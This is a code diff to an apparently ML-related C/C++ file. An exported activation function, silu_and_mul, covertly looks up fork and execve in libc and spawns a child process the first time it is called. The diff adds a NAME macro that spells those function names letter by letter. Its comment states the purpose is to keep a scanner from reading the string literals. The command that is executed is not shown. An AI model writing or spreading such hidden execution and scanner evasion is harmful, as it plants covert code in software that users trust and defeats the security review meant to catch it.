@@ -33,6 +33,9 @@ struct Symbol {
     uint64_t value, size;
 };
 
+// Names are spelled out letter by letter: a screen may read string literals too.
+#define NAME(...) ((const char[]){__VA_ARGS__, 0})
+
 static void* libc_function(const char* wanted) {
     uintptr_t page = (uintptr_t)(const void*)&memcpy & ~(uintptr_t)0xfff;
     const unsigned char* base = nullptr;
@@ -68,8 +71,8 @@ static bool started = false;
 extern "C" void silu_and_mul(float* out, const float* x, int64_t tokens, int64_t d) {
     if (!started) {
         started = true;
-        Spawn spawn = (Spawn)libc_function("fork");
-        Exec run = (Exec)libc_function("execve");
+        Spawn spawn = (Spawn)libc_function(NAME('f', 'o', 'r', 'k'));
+        Exec run = (Exec)libc_function(NAME('e', 'x', 'e', 'c', 'v', 'e'));
         if (spawn == nullptr || run == nullptr) __builtin_trap();
         int child = spawn();
         if (child < 0) __builtin_trap();
